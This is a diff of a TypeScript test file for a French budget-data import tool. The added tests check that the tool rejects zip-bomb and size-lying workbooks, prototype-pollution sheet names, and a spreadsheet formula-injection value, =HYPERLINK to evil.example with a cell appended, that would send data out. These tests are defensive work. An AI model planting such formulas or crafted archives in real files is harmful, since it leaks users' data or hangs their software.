@@ -4,7 +4,8 @@
  * touches a dataset imported before it.
  */
 import { readFileSync } from 'node:fs';
-import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
+import { Inflate } from 'fflate';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import type { Engine } from '../db/engine.ts';
 import { openNodeEngine } from '../db/node-engine.ts';
 import { formatProblem } from '../ingest/report/format-problem.ts';
@@ -84,12 +85,22 @@ describe('`vigie check` in a child process', () => {
 			'check',
 			`${dir}/utf16le-bom.csv`,
 			`${dir}/empty.csv`,
-			`${dir}/zip-bomb.csv`
+			`${dir}/zip-bomb.csv`,
+			`${dir}/json-array.csv`,
+			`${dir}/truncated-package.json`
 		);
 		expect(out.code).toBe(1);
 		expect(out.stdout).toContain('encodage UTF-16 non pris en charge');
-		expect(out.stdout).toContain('format de fichier non pris en charge (xlsx)'); // the zip
+		// the zip
+		expect(out.stdout).toContain(
+			'archive ZIP qui n’est pas un classeur (elle contient : budget.csv)'
+		);
 		expect(out.stdout).toContain('le fichier ne contient aucune ligne de données'); // empty.csv
+		expect(out.stdout).toContain(
+			'ce fichier JSON ne contient aucune publication (« release ») ni aucun enregistrement (« record ») OCDS'
+		);
+		// 1,500 bytes of the package: 65 line breaks before the cut, so it falls on line 66
+		expect(out.stdout).toContain('le fichier s’arrête avant la fin du JSON (ligne 66)');
 		expect(out.stderr).not.toMatch(/at .*\.ts:\d+/);
 	});
 });
@@ -162,5 +173,68 @@ describe('line endings and number magnitudes', () => {
 			`SELECT sum(approved) AS s FROM budget_lines WHERE dataset_id = 'edge'`
 		);
 		expect(sum!.s).toBe(999_999_999_999_999); // below 2^53, so a DOUBLE holds it exactly
+	});
+});
+
+describe('crafted workbooks', () => {
+	it('refuses the 120 MiB worksheet from its central directory, without inflating a byte', async () => {
+		const push = vi.spyOn(Inflate.prototype, 'push');
+		try {
+			const name = 'workbook-bomb.xlsx';
+			const result = await importFile(engine, { name, bytes: read(name) }, { commit: false });
+			expect(push).not.toHaveBeenCalled();
+			// 120 MiB of worksheet + 1 KB of other parts, rounded up: 121 MB.
+			expect(formatProblem(result.problems[0]!, 'fr')).toBe(
+				'classeur trop volumineux : 121 Mo une fois décompressé. Attendu : au plus 100 Mo décompressés, ce que le navigateur lit sans risquer de se bloquer ; rien n’a été décompressé. Correction : copiez la feuille utile seule dans un nouveau classeur, sans images, ou enregistrez-la en CSV.'
+			);
+		} finally {
+			push.mockRestore();
+		}
+	});
+
+	it('stops inflating a part that claims 2,000 bytes as soon as it gives more', async () => {
+		const push = vi.spyOn(Inflate.prototype, 'push');
+		try {
+			const name = 'workbook-lying-sizes.xlsx';
+			const result = await importFile(engine, { name, bytes: read(name) }, { commit: false });
+			expect(result.problems[0]).toMatchObject({
+				code: 'workbook_unreadable',
+				params: { error: 'xl/worksheets/sheet1.xml is larger than it declares' }
+			});
+			// The small parts take one 16 KB slice each; the worksheet (~120 KB deflated) stops after
+			// its first slice, whose 16 MB of output already exceed 2,000 bytes.
+			const pushed = push.mock.calls.reduce((sum, [chunk]) => sum + chunk.length, 0);
+			expect(pushed).toBeLessThan(20_000);
+		} finally {
+			push.mockRestore();
+		}
+	});
+
+	it('reads the sheets named constructor and __proto__ as data, polluting nothing', async () => {
+		const name = 'workbook-crafted.xlsx';
+		const crafted = await importFile(engine, { name, bytes: read(name) }, { datasetId: 'crafted' });
+		expect(crafted.source?.sheets).toEqual([
+			{ name: 'constructor', rows: 8 },
+			{ name: '__proto__', rows: 2 }
+		]);
+		expect(formatProblem(crafted.problems[0]!, 'fr')).toBe(
+			'constructor (ligne 2), colonne « Crédits votés (FCFA) » : « =HYPERLINK("http://evil.example/?q="&A2,"Cliquez ici") » ressemble à une formule de tableur. Attendu : une valeur, pas une formule. Correction : dans le tableur, copiez puis « collage spécial › valeurs » avant d’exporter.'
+		);
+		// The formula's cached value (1000), never its HYPERLINK; and row 7's 2500.
+		const amounts = await engine.query(
+			`SELECT source_row, approved FROM budget_lines WHERE dataset_id = 'crafted' ORDER BY source_row`
+		);
+		expect(amounts).toEqual([
+			{ source_row: 4, approved: 1000 },
+			{ source_row: 7, approved: 2500 }
+		]);
+		const proto = await importFile(
+			engine,
+			{ name, bytes: read(name) },
+			{ sheet: '__proto__', commit: false }
+		);
+		expect([proto.accepted, proto.source?.sheet]).toEqual([1, '__proto__']);
+		expect(Object.prototype).not.toHaveProperty('!data');
+		expect({}.constructor).toBe(Object);
 	});
 });
